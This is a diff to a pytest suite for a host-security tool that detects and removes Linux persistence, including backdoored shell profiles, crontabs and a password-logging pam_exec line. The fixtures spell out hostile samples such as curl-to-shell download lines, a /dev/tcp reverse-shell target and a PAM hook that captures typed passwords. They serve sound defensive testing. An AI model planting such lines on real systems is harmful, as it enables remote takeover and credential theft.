@@ -22,22 +22,21 @@ Debian 12 ships 252; cron.d/crontab user fields: ``crontab`` reads the user form
 
 from __future__ import annotations
 
-import contextlib
 import os
 import shutil
 import subprocess
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from hostguard.checks.persistence import _self_contained
+from hostguard.checks.persistence import _fix, _self_contained
 from hostguard.findings import Finding
 from hostguard.host.base import RootHost
 from hostguard.host.pam import parse_pam_stack
-from hostguard.remediation import Action, Command, DeleteLine
+from hostguard.host.persistence import parse_script_lines
+from hostguard.remediation import Action, Command, DeleteLine, Edit
 from hostguard.respond.apply import apply
 from hostguard.respond.fix import FixSettings, make_plan
 from tests.conftest import HITS, build_tree, need_root, need_tool, run_one
@@ -348,6 +347,9 @@ def _shell_ok(path: Path) -> subprocess.CompletedProcess[str]:
 
 @pytest.mark.parametrize(("check_id", "path", "gone", "kept"), [
     ("persistence.login_script", "/root/.bashrc", "/dev/tcp/198.51.100.7/4444", "export PS1="),
+    # commands over two lines: both lines go, and what follows them stays a command of its own
+    ("persistence.login_script", "/etc/profile.d/zz-banner.sh", "banner.test", "\nexport BANNER_SEEN=1\n"),
+    ("persistence.login_script", "/root/.profile", "198.51.100.7", "fi\nmesg n"),
     ("persistence.boot_script", "/etc/rc.local", "/usr/local/lib/.cache/agent", "exit 0"),
 ])
 def test_deleted_shell_lines_leave_a_file_the_shell_parses(tmp_path: Path, check_id: str, path: str, gone: str,
@@ -372,9 +374,11 @@ SHELL_CASES: dict[str, tuple[str, bool, str | None]] = {
     # the command closes an if opened above it: deleting it alone leaves an unclosed if
     "closes an if": ("if [ -x /usr/bin/curl ]; then\n  curl -s http://198.51.100.7/a | sh; fi\n", False, None),
     "opens a case": ("case $- in *i*) curl -s http://198.51.100.7/a | sh ;;\nesac\n", False, None),
-    # the line goes on below: deleting it turns its continuation into a command of its own
-    "continued": ("curl -s http://198.51.100.7/a | sh && \\\n  logger -t profile done\n", False,
-                  "  logger -t profile done"),
+    # a command continued over two lines that closes an if: deleting both lines leaves the if open
+    "continued, closes an if": ("if [ -x /usr/bin/curl ]; then\n  curl -s http://198.51.100.7/a |\n  sh; fi\n",
+                                False, None),
+    # continued into an open quote: what the lines mean is the owner's to untangle
+    "continued into a quote": ("curl -s http://198.51.100.7/a | sh &&\n  echo \"done\n  \"\n", False, None),
 }
 
 
@@ -386,7 +390,9 @@ def test_shell_lines_inside_a_block_are_left_to_the_owner(tmp_path: Path, case: 
     [finding] = _found(tree, "persistence.login_script").values()
     line = next(n for n, raw in enumerate(text.splitlines(), 1) if "198.51.100.7" in raw)
     assert finding.evidence["line"] == line
-    naive = "".join(x for n, x in enumerate(text.splitlines(keepends=True), 1) if n != line)
+    last = finding.evidence.get("end_line") or line
+    assert isinstance(last, int)
+    naive = "".join(x for n, x in enumerate(text.splitlines(keepends=True), 1) if not line <= n <= last)
     if deletable:
         apply(finding.remediation.steps, str(tree))
         assert profile.read_text() == naive
@@ -401,6 +407,76 @@ def test_shell_lines_inside_a_block_are_left_to_the_owner(tmp_path: Path, case: 
         assert shell.returncode != 0
     else:
         assert shell.returncode == 0 and orphan in naive.splitlines()
+
+
+# A command written over several lines (text, the lines it is on, what is left once they are all deleted).
+CONTINUED_CASES: dict[str, tuple[str, tuple[int, int], str]] = {
+    # the payload is on the second line: deleting it alone would leave `test ... &&` to glue onto the export
+    "and": ('test -n "$PS1" &&\n  curl -s http://198.51.100.7/a | sh\nexport A=1\n', (1, 2), "export A=1\n"),
+    # neither line downloads-and-runs alone: read line by line, this is not seen at all
+    "pipe": ("curl -s http://198.51.100.7/a |\nsh\necho done\n", (1, 2), "echo done\n"),
+    "backslash": ("umask 022\ncurl -s http://198.51.100.7/a \\\n  | sh\n", (2, 3), "umask 022\n"),
+    "or, past a comment": ("true ||\n  # fall back\n  wget -qO- http://198.51.100.7/a | sh\n: end\n", (1, 3),
+                           ": end\n"),
+    # a whole command inside an if: the if keeps its other command and stays whole
+    "inside an if": ("if true; then\n  umask 022\n  curl -s http://198.51.100.7/a |\n    sh\nfi\n", (3, 4),
+                     "if true; then\n  umask 022\nfi\n"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(CONTINUED_CASES))
+def test_a_continued_command_is_deleted_whole_bottom_up(tmp_path: Path, case: str) -> None:
+    need_tool("sh", "bash")
+    text, (first, last), left = CONTINUED_CASES[case]
+    tree = build_tree(tmp_path / "host")
+    profile = _write(tree, "etc/profile.d/zz-local.sh", text)
+    assert _shell_ok(profile).returncode == 0
+    [finding] = _found(tree, "persistence.login_script").values()
+    lines = text.splitlines()
+    assert (finding.evidence["line"], finding.evidence["end_line"]) == (first, last)
+    # every line of the command, bottom-up, each with its exact text: right when applied one at a time too
+    assert finding.remediation.steps == tuple(DeleteLine("/etc/profile.d/zz-local.sh", n, lines[n - 1])
+                                              for n in range(last, first - 1, -1))
+    for step in finding.remediation.steps:
+        apply((step,), str(tree))
+
+    assert profile.read_text() == left
+    for shell in ("sh", "bash"):
+        done = subprocess.run([shell, "-n", str(profile)], capture_output=True, text=True, timeout=30, check=False)
+        assert done.returncode == 0, (shell, done.stderr)
+    assert _found(tree, "persistence.login_script") == {}
+
+
+def test_deleting_one_line_of_a_continued_command_changes_what_runs(tmp_path: Path) -> None:
+    """What the whole-command delete spares: with the payload's line gone alone, `sh -n` still accepts the
+    file, but its `&&` now makes the next command conditional (and the shell runs it so)."""
+    need_tool("sh")
+    text = CONTINUED_CASES["and"][0]
+    naive = _write(tmp_path, "naive.sh", "".join(x for n, x in enumerate(text.splitlines(keepends=True), 1) if n != 2))
+    assert _shell_ok(naive).returncode == 0
+    script = 'unset PS1; . "$1"; echo "A=${A-unset}"'  # a shell that is not interactive, as at a cron or scp logon
+    ran = subprocess.run(["sh", "-c", script, "sh", str(naive)], capture_output=True, text=True, timeout=30, check=False)
+    assert ran.stdout == "A=unset\n"
+    whole = _write(tmp_path, "whole.sh", CONTINUED_CASES["and"][2])
+    ran = subprocess.run(["sh", "-c", script, "sh", str(whole)], capture_output=True, text=True, timeout=30, check=False)
+    assert ran.stdout == "A=1\n"
+
+
+def test_crontab_reads_a_continued_line_as_two_entries(tmp_path: Path) -> None:
+    """Debian's cron does not join lines (crontab(5): the command runs "up to a newline or %"): the line after
+    a trailing `|` or backslash is an entry of its own, which crontab refuses here (`sh` is no minute)."""
+    tree = build_tree(tmp_path / "host")
+    for text in ("* * * * * curl -s http://198.51.100.7/a |\nsh\n", "* * * * * curl -s http://198.51.100.7/a \\\n| sh\n",
+                 "* * * * * echo a \\\n  b\n"):
+        done = _crontab(tree, "alice", _write(tmp_path, "c", text))
+        # the second line is read as an entry of its own, its first word as the minute (crontab's line number
+        # in the message is not reliable: it counts the line before or after reading it, by where it stopped)
+        assert done.returncode != 0
+        assert "bad minute" in done.stderr, done.stderr
+    # and two lines that are each an entry are installed as two, the backslash kept as written
+    done = _crontab(tree, "alice", _write(tmp_path, "c", "* * * * * /usr/bin/true \\\n* * * * * /usr/bin/false\n"))
+    assert done.returncode == 0, done.stderr
+    assert "* * * * * /usr/bin/true \\\n* * * * * /usr/bin/false\n" in done.stdout
 
 
 # Lines around the deleted one: balanced ones, and halves whose other half the line itself would have to be
@@ -432,6 +508,37 @@ def test_a_line_called_self_contained_can_be_deleted_from_any_valid_file(words: 
         without = f"{head}\n  true\n  true\n{tail}\n"
         done = subprocess.run(["bash", "-n"], input=without, capture_output=True, text=True, timeout=10, check=False)
         assert done.returncode == 0, (line, head, tail, done.stderr)
+
+
+def _bash_ok(text: str) -> bool:
+    return subprocess.run(["bash", "-n"], input=text, capture_output=True, text=True, timeout=10,
+                          check=False).returncode == 0
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(TOKENS, min_size=1, max_size=5), st.sampled_from(["&&", "||", "|", "|&", "\\"]),
+       st.lists(TOKENS, min_size=1, max_size=5))
+def test_a_continued_command_the_fix_deletes_can_go_from_any_valid_file(first: list[str], operator: str,
+                                                                         second: list[str]) -> None:
+    """The same promise for a command the collector joins over two lines (or more, when the second goes on):
+    whenever the fix deletes its lines from a file bash accepts, bash still accepts the file."""
+    need_tool("bash")
+    body = f"{' '.join(first)} {operator}\n{' '.join(second)}"
+    for head, tail in CONTEXTS:
+        text = f"{head}\n  true\n{body}\n  true\n{tail}\n"
+        if not _bash_ok(text):
+            continue
+        top = len(f"{head}\n  true".split("\n")) + 1  # the body's first line
+        for entry in parse_script_lines(text, "/etc/profile", "shell_startup"):
+            if not top <= entry.line <= top + 1:
+                continue  # the context's own lines
+            steps = _fix(entry).steps
+            if not steps:
+                continue
+            assert all(isinstance(step, DeleteLine) for step in steps)
+            gone = {step.line for step in steps if isinstance(step, DeleteLine)}
+            without = "".join(x for n, x in enumerate(text.splitlines(keepends=True), 1) if n not in gone)
+            assert _bash_ok(without), (body, head, tail, sorted(gone))
 
 
 @settings(max_examples=500, deadline=None)
@@ -486,17 +593,6 @@ def test_pth_fix_keeps_the_path_lines(tmp_path: Path) -> None:
 
 # -- 5. setuid, setgid and capabilities ------------------------------------------------------------------
 
-@pytest.fixture
-def _no_setid_left(tmp_path: Path) -> Iterator[None]:
-    """No set-id file or capability made here outlives the test (pytest keeps its last temp directories)."""
-    yield
-    for path in tmp_path.rglob("*"):
-        if path.is_file() and not path.is_symlink():
-            mode = path.stat().st_mode
-            if mode & 0o6000:
-                path.chmod(mode & 0o1777)
-            with contextlib.suppress(OSError):
-                os.removexattr(path, "security.capability", follow_symlinks=False)
 
 
 def _in_tree(argv: tuple[str, ...], tree: Path) -> list[str]:
@@ -505,7 +601,7 @@ def _in_tree(argv: tuple[str, ...], tree: Path) -> list[str]:
     return [*argv[:-1], f"{tree}{argv[-1]}"]
 
 
-@pytest.mark.usefixtures("_no_setid_left")
+@pytest.mark.usefixtures("no_setid_left")
 def test_setid_fixes_run_with_chmod_and_setcap_and_their_undo_restores(tmp_path: Path) -> None:
     need_root("setuid-root files and setcap")
     need_tool("setcap", "getcap")
@@ -608,8 +704,8 @@ def _pamtester(tmp_path: Path, tree: Path, password: str) -> tuple[int, str | No
     return done.returncode, marker.read_text().rstrip("\0\n") if marker.exists() else None
 
 
-def _pam_tree(tmp_path: Path) -> Path:
-    tree = build_tree(tmp_path / "host", HITS / "persistence.pam_exec")
+def _pam_tree(tmp_path: Path, name: str = "host") -> Path:
+    tree = build_tree(tmp_path / name, HITS / "persistence.pam_exec")
     hashed = subprocess.run(["openssl", "passwd", "-6", "-salt", "hostguardtest", PASSWORD], capture_output=True,
                             text=True, timeout=10, check=True).stdout.strip()
     shadow = tree / "etc/shadow"
@@ -653,6 +749,139 @@ def test_pam_exec_fix_leaves_a_well_formed_stack(tmp_path: Path) -> None:
                 assert n + int(action) < len(lines), line
             else:
                 assert action in ("ignore", "bad", "die", "ok", "done", "reset"), line
+
+
+# A pam_exec line an earlier jump skips. On a wrong password pam_unix falls through to the attacker's line (it
+# gets what was typed) and to pam_deny; on the right one `success=2` skips both and lands on the second factor
+# (a pam_exec stand-in of the test's own that leaves a mark), then pam_permit.
+JUMP_STACK = ("#%PAM-1.0\n"
+              "auth [success=2 default=ignore] pam_unix.so\n"
+              "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog\n"
+              "auth requisite pam_deny.so\n"
+              "auth required pam_exec.so quiet /usr/local/sbin/otp-check\n"
+              "auth required pam_permit.so\n")
+PAM_2FA_SCRIPT = (
+    'cp "$1/etc/pam.d/sudo" /etc/pam.d/sudo && cp "$1/etc/passwd" /etc/passwd && cp "$1/etc/shadow" /etc/shadow && '
+    'mount -t tmpfs tmpfs /usr/local/sbin && printf "#!/bin/sh\\ncat > %s\\n" "$2" > /usr/local/sbin/.pwlog && '
+    'printf "#!/bin/sh\\ntouch %s\\n" "$3" > /usr/local/sbin/otp-check && '
+    'chmod 755 /usr/local/sbin/.pwlog /usr/local/sbin/otp-check && exec pamtester sudo alice authenticate')
+
+
+def _pamtester_2fa(tmp_path: Path, tree: Path, password: str) -> tuple[int, str | None, bool]:
+    """Authenticate alice through the tree's sudo stack: the exit code, what the attacker's program was handed
+    (None: it did not run), and whether the second factor ran."""
+    need_tool("pamtester")
+    marker, otp = tmp_path / "marker", tmp_path / "otp"
+    marker.unlink(missing_ok=True)
+    otp.unlink(missing_ok=True)
+    done = _with_etc(tmp_path, PAM_2FA_SCRIPT, str(tree), str(marker), str(otp), stdin=password + "\n")
+    assert "successfully authenticated" in done.stdout + done.stderr or done.returncode != 0
+    return done.returncode, marker.read_text().rstrip("\0\n") if marker.exists() else None, otp.exists()
+
+
+def _jump_tree(tmp_path: Path, name: str = "host") -> Path:
+    tree = _pam_tree(tmp_path, name)
+    _write(tree, "etc/pam.d/sudo", JUMP_STACK)
+    _write(tree, "usr/local/sbin/otp-check", "#!/bin/sh\n", 0o755)  # the second factor is a package's
+    _write(tree, "var/lib/dpkg/info/otp-check.list", "/.\n/usr/local/sbin/otp-check\n")
+    return tree
+
+
+def test_pam_exec_fix_shortens_the_jump_over_it_and_the_second_factor_still_runs(tmp_path: Path) -> None:
+    need_tool("openssl")
+    tree = _jump_tree(tmp_path)
+    assert _pamtester_2fa(tmp_path, tree, PASSWORD) == (0, None, True)
+    wrong = _pamtester_2fa(tmp_path, tree, "wrong-password")
+    assert wrong[0] != 0 and wrong[1:] == ("wrong-password", False)  # before: the program gets what is typed
+    [finding] = _found(tree, "persistence.pam_exec").values()
+    assert finding.evidence["jumps_over"] == [{"file": "/etc/pam.d/sudo", "line": 2, "services": ["sudo"],
+                                               "text": "auth [success=2 default=ignore] pam_unix.so",
+                                               "jumps": ["success=2"]}]
+    # bottom-up: the delete (line 3) before the edit above it, each with its exact old text
+    assert finding.remediation.steps == (
+        DeleteLine("/etc/pam.d/sudo", 3, "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog"),
+        Edit("/etc/pam.d/sudo", 2, "auth [success=2 default=ignore] pam_unix.so",
+             "auth [success=1 default=ignore] pam_unix.so"))
+    for step in finding.remediation.steps:  # one at a time, in their order: each line number still true
+        apply((step,), str(tree))
+
+    assert _pamtester_2fa(tmp_path, tree, PASSWORD) == (0, None, True)  # the owner logs in, past the 2nd factor
+    code, handed, second = _pamtester_2fa(tmp_path, tree, "wrong-password")
+    assert code != 0 and (handed, second) == (None, False)  # the stack still says no, and hands nothing over
+    assert _found(tree, "persistence.pam_exec") == {}
+    lines = parse_pam_stack(RootHost(str(tree)), "/etc/pam.d/sudo", kind="auth")
+    assert [(x.module, x.control) for x in lines] == [
+        ("pam_unix.so", "[success=1 default=ignore]"), ("pam_deny.so", "requisite"),
+        ("pam_exec.so", "required"), ("pam_permit.so", "required")]
+
+
+def test_deleting_a_skipped_pam_exec_line_alone_skips_the_second_factor(tmp_path: Path) -> None:
+    """What the edit of the jump is for: the line deleted alone, `success=2` now skips pam_deny *and* the
+    second factor; the logon still succeeds, without it."""
+    need_tool("openssl")
+    tree = _jump_tree(tmp_path)
+    [finding] = _found(tree, "persistence.pam_exec").values()
+    apply([s for s in finding.remediation.steps if isinstance(s, DeleteLine)], str(tree))
+    assert _pamtester_2fa(tmp_path, tree, PASSWORD) == (0, None, False)
+
+
+def _pam_fix_of(tmp_path: Path, files: dict[str, str]) -> Finding:
+    tree = build_tree(tmp_path / "host")
+    for name, text in files.items():
+        _write(tree, f"etc/pam.d/{name}", text)
+    [finding] = _found(tree, "persistence.pam_exec").values()
+    return finding
+
+
+EXEC = "optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog"
+
+
+def test_pam_exec_fix_shapes_around_jumps(tmp_path: Path) -> None:
+    # near miss: the hit's stack has no jump over its line (`default=ignore` jumps nowhere): the simple delete
+    [hit] = _found(build_tree(tmp_path / "hit", HITS / "persistence.pam_exec"), "persistence.pam_exec").values()
+    assert hit.remediation.steps == (DeleteLine("/etc/pam.d/sudo", 2, "auth [default=ignore] pam_exec.so quiet "
+                                                "expose_authtok /usr/local/sbin/.pwlog"),)
+    assert "jumps_over" not in hit.evidence
+    # near miss: a jump that lands on the line (1 skips pam_env only) needs no change: the simple delete
+    onto = _pam_fix_of(tmp_path / "a", {"sudo": f"auth [success=1 default=ignore] pam_unix.so\nauth optional "
+                                                f"pam_env.so\nauth {EXEC}\nauth required pam_permit.so\n"})
+    assert onto.remediation.steps == (DeleteLine("/etc/pam.d/sudo", 3, f"auth {EXEC}"),)
+    # several values of one control, one of them skipping the line, and a second jump line
+    two = _pam_fix_of(tmp_path / "b", {"sudo": "auth [success=3 new_authtok_reqd=1 default=ignore] pam_unix.so\n"
+                                               f"auth [default=2] pam_env.so\nauth {EXEC}\nauth requisite pam_deny.so\n"
+                                               "auth required pam_permit.so\n"})
+    assert two.remediation.steps == (
+        DeleteLine("/etc/pam.d/sudo", 3, f"auth {EXEC}"),
+        Edit("/etc/pam.d/sudo", 2, "auth [default=2] pam_env.so", "auth [default=1] pam_env.so"),
+        Edit("/etc/pam.d/sudo", 1, "auth [success=3 new_authtok_reqd=1 default=ignore] pam_unix.so",
+             "auth [success=2 new_authtok_reqd=1 default=ignore] pam_unix.so"))
+    # account: a jump of 1 becomes `ignore` (PAM has no jump of 0; pam_acct_mgmt's side effect of a jump is ignore)
+    account = _pam_fix_of(tmp_path / "c", {"sudo": f"account [success=1 default=ignore] pam_unix.so\naccount {EXEC}\n"
+                                                   "account required pam_permit.so\n"})
+    assert account.remediation.steps[1] == Edit("/etc/pam.d/sudo", 1, "account [success=1 default=ignore] pam_unix.so",
+                                                "account [success=ignore default=ignore] pam_unix.so")
+
+
+def test_pam_exec_fixes_left_to_the_owner_name_each_jump(tmp_path: Path) -> None:
+    # auth: a jump of 1 on an auth line would become `ignore`, not what pam_setcred does after a jump
+    one = _pam_fix_of(tmp_path / "a", {"sudo": f"auth [success=1 default=ignore] pam_unix.so\nauth {EXEC}\n"
+                                               "auth required pam_permit.so\n"}).remediation
+    assert one.steps == ()
+    assert one.manual and "pam_setcred" in one.manual
+    assert "line 1 of /etc/pam.d/sudo (`auth [success=1 default=ignore] pam_unix.so`): change `success=1` to " \
+           "`success=ignore`" in one.manual
+    # the jump is in a shared file that other services read: editing it is the owner's call
+    shared = _pam_fix_of(tmp_path / "b", {
+        "common-auth": "auth [success=1 default=ignore] pam_unix.so\n",
+        "sudo": f"@include common-auth\nauth {EXEC}\nauth requisite pam_deny.so\n"}).remediation
+    assert shared.steps == ()
+    assert shared.manual and "another file" in shared.manual and "line 1 of /etc/pam.d/common-auth" in shared.manual
+    # a substack: PAM counts it as one module, the parser its lines
+    sub = _pam_fix_of(tmp_path / "c", {"sudo-x": "auth required pam_env.so\nauth required pam_faildelay.so\n",
+                                       "sudo": f"auth [success=2 default=ignore] pam_unix.so\nauth substack sudo-x\n"
+                                               f"auth {EXEC}\nauth requisite pam_deny.so\n"}).remediation
+    assert sub.steps == ()
+    assert sub.manual and "substack" in sub.manual
 
 
 # -- 7. init.d scripts -------------------------------------------------------------------------------------
